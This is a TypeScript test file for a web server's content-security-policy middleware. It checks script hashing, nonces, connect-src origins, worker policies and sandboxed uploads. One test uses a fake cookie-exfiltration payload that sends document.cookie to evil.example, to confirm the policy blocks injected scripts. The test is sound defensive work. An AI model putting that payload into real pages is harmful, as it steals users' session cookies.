import { createHash } from 'node:crypto'
import { Hono } from 'hono'
import { describe, expect, it } from 'vitest'
import { buildPolicy, contentSecurityPolicy, inlineScriptHashes, isPdfWorkerScript, isWorkerScript, walletNodeOrigins, workerPolicyOf } from './content-security-policy'

const sha = (text: string) => `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`
const directive = (policy: string, name: string) => policy.split('; ').find((d) => d.startsWith(`${name} `))

describe('inlineScriptHashes', () => {
  it('hashes the inline scripts that run, byte for byte, and nothing else', () => {
    const boot = 'try{document.documentElement.dataset.theme="0"}catch(e){}'
    const context = '\n  window.__reactRouterContext = {"a":"</b>"};\n'
    const moduleScript = 'import "/assets/entry.js";'
    const html = [
      `<script>${boot}</script>`,
      `<script type="module" async="">${moduleScript}</script>`,
      `<script nonce="x">${context}</script>`,
      '<script type="application/ld+json">{"@type":"Organization"}</script>',
      '<script type="module" src="/assets/entry.client.js"></script>',
      `<SCRIPT>${boot}</SCRIPT>`,
    ].join('')
    expect(inlineScriptHashes(html)).toEqual([sha(boot), sha(moduleScript), sha(context)])
  })

  it('finds none in a page without inline scripts', () => {
    expect(inlineScriptHashes('<html><body><p>script</p></body></html>')).toEqual([])
  })
})

describe('buildPolicy', () => {
  it('allows scripts from this origin and the hashed inline ones only', () => {
    const policy = buildPolicy({ scriptHashes: ["'sha256-abc'"], connectOrigins: ['https://node.example'], googleMaps: false })
    expect(directive(policy, 'script-src')).toBe("script-src 'self' 'sha256-abc'")
    expect(directive(policy, 'connect-src')).toBe("connect-src 'self' https://node.example")
    expect(directive(policy, 'object-src')).toBe("object-src 'none'")
    expect(directive(policy, 'frame-ancestors')).toBe("frame-ancestors 'self'")
    expect(directive(policy, 'frame-src')).toBe("frame-src 'none'")
    expect(policy).not.toContain('googleapis')
    expect(policy).not.toContain('unsafe-eval')
  })

  it("adds Google's Maps allowlist only where the map is shown", () => {
    const policy = buildPolicy({ scriptHashes: [], connectOrigins: [], googleMaps: true })
    expect(directive(policy, 'script-src')).toContain('https://*.googleapis.com')
    expect(directive(policy, 'img-src')).toContain('https://*.gstatic.com')
    expect(directive(policy, 'frame-src')).toBe('frame-src https://*.google.com')
  })
})

describe('walletNodeOrigins', () => {
  it('lists each chain node origin, with RPC_URL_<chainId> overrides applied', () => {
    const origins = walletNodeOrigins({ 56: 'http://127.0.0.1:8545/rpc' })
    expect(origins).toContain('http://127.0.0.1:8545')
    expect(origins).not.toContain('https://bsc-dataseed.bnbchain.org')
    expect(origins).toContain('https://mainnet.base.org')
  })
})

describe('contentSecurityPolicy middleware', () => {
  const boot = 'boot()'
  const scriptHashes = { pages: { 'about/index.html': [sha(boot), sha('hydrate()')] }, rendered: [sha(boot)] }
  const app = new Hono()
  app.use('*', contentSecurityPolicy({ rpcUrls: {}, googleMapsApiKey: 'a-browser-key-of-some-length', scriptHashes }))
  // A server-rendered page: its own scripts carry the request's nonce.
  app.get('/page', (c) => c.html(`<html><head><script>${boot}</script><script nonce="${c.get('cspNonce')}">run()</script></head></html>`))
  // A prerendered page, as serveStatic answers it (onFound names the file it sent).
  app.get('/about', (c) => {
    c.set('staticFile', 'about/index.html')
    return c.html(`<html><head><script>${boot}</script><script>hydrate()</script></head></html>`)
  })
  app.get('/contact', (c) => c.html('<html></html>'))
  app.get('/data', (c) => c.json({ ok: true }))
  app.get('/unchanged', () => new Response(null, { status: 304, headers: { 'content-type': 'text/html; charset=utf-8' } }))
  app.get('/files/upload.html', () => new Response('<script>alert(1)</script>', { headers: { 'content-type': 'text/html; charset=utf-8', 'content-security-policy': "sandbox; default-src 'none'" } }))

  it('gives a server-rendered page a fresh nonce and the hashes of the build\'s own constant scripts, plus the page\'s socket origin', async () => {
    const [first, second] = await Promise.all([app.request('http://site.test/page'), app.request('http://site.test/page')])
    const policy = first.headers.get('content-security-policy')!
    const nonce = /nonce="([^"]+)"/.exec(await first.text())![1]
    expect(directive(policy, 'script-src')).toBe(`script-src 'self' 'nonce-${nonce}' ${sha(boot)}`)
    expect(second.headers.get('content-security-policy')).not.toBe(policy)
    expect(directive(policy, 'connect-src')).toContain('ws://site.test')
    expect(policy).not.toContain('googleapis')
  })

  it('gives a prerendered page the hashes the build took of its file', async () => {
    const policy = (await app.request('http://site.test/about')).headers.get('content-security-policy')!
    expect(directive(policy, 'script-src')).toBe(`script-src 'self' ${sha(boot)} ${sha('hydrate()')}`)
  })

  it('never allows an inline script injected into a response, prerendered or rendered', async () => {
    const injected = 'fetch("https://evil.example/?c="+document.cookie)'
    const tampered = new Hono()
    tampered.use('*', contentSecurityPolicy({ rpcUrls: {}, scriptHashes }))
    tampered.get('/about', (c) => {
      c.set('staticFile', 'about/index.html')
      return c.html(`<html><head><script>${boot}</script><script>${injected}</script></head></html>`)
    })
    tampered.get('/echo', (c) => c.html(`<html><body><p>${c.req.query('q')}</p></body></html>`))
    tampered.get('/unknown-file', (c) => {
      c.set('staticFile', 'not-built.html')
      return c.html(`<html><script>${injected}</script></html>`)
    })
    for (const url of ['http://site.test/about', `http://site.test/echo?q=${encodeURIComponent(`<script>${injected}</script>`)}`, 'http://site.test/unknown-file']) {
      const res = await tampered.request(url)
      expect(await res.text()).toContain(injected)
      const sources = directive(res.headers.get('content-security-policy')!, 'script-src')!.split(' ')
      expect(sources).not.toContain(sha(injected))
      expect(sources).not.toContain("'unsafe-inline'")
    }
  })

  it('answers HEAD with the same script sources as GET for a prerendered page', async () => {
    const [get, head] = await Promise.all([app.request('http://site.test/about'), app.request('http://site.test/about', { method: 'HEAD' })])
    expect(head.headers.get('content-security-policy')).toBe(get.headers.get('content-security-policy'))
  })

  it('allows the public address\'s secure socket behind a TLS proxy', async () => {
    const proxied = new Hono()
    proxied.use('*', contentSecurityPolicy({ rpcUrls: {}, publicUrl: 'https://www.example.co.uk', scriptHashes }))
    proxied.get('/', (c) => c.html('<html></html>'))
    const policy = (await proxied.request('http://10.0.0.5:3000/')).headers.get('content-security-policy')!
    expect(directive(policy, 'connect-src')).toContain('wss://www.example.co.uk')
    expect(directive(policy, 'connect-src')).toContain('ws://10.0.0.5:3000')
  })

  it('allows the map on /contact when a key is configured', async () => {
    const res = await app.request('http://site.test/contact')
    expect(res.headers.get('content-security-policy')).toContain('https://*.googleapis.com')
  })

  it('leaves other responses alone', async () => {
    const res = await app.request('http://site.test/data')
    expect(res.headers.get('content-security-policy')).toBeNull()
  })

  it('sends no policy with a 304, whose empty body would allow no script (the stored one stays)', async () => {
    const res = await app.request('http://site.test/unchanged')
    expect(res.status).toBe(304)
    expect(res.headers.get('content-security-policy')).toBeNull()
  })

  it('keeps the sandbox policy of an uploaded HTML file', async () => {
    const res = await app.request('http://site.test/files/upload.html')
    expect(res.headers.get('content-security-policy')).toBe("sandbox; default-src 'none'")
  })
})

describe('worker scripts', () => {
  it("tells the previews' workers and PDF.js's worker apart from the other scripts of the build", () => {
    expect(isWorkerScript('assets/model.worker-AbC_12.js')).toBe(true)
    expect(isPdfWorkerScript('assets/pdf.worker.min-AbC_12.mjs')).toBe(true)
    expect(isPdfWorkerScript('assets/pdf.worker.min-AbC_12.mjs.map')).toBe(false)
    expect(isPdfWorkerScript('assets/pdf-view-AbC_12.js')).toBe(false)
    expect(isWorkerScript('assets/pdf.worker.min-AbC_12.mjs')).toBe(false)
  })

  it('gives each worker its own policy: the download worker may only fetch from this origin', () => {
    expect(workerPolicyOf('assets/download.worker-AbC_12.js')).toBe("default-src 'none'; connect-src 'self'")
    expect(workerPolicyOf('assets/model.worker-AbC_12.js')).toBe("default-src 'none'; script-src 'self' 'wasm-unsafe-eval' 'unsafe-eval'; connect-src 'self'")
    expect(workerPolicyOf('assets/pdf.worker.min-AbC_12.mjs')).toBe("default-src 'none'; script-src 'self'")
    expect(workerPolicyOf('assets/preview-dialog-AbC_12.js')).toBeNull()
  })
})
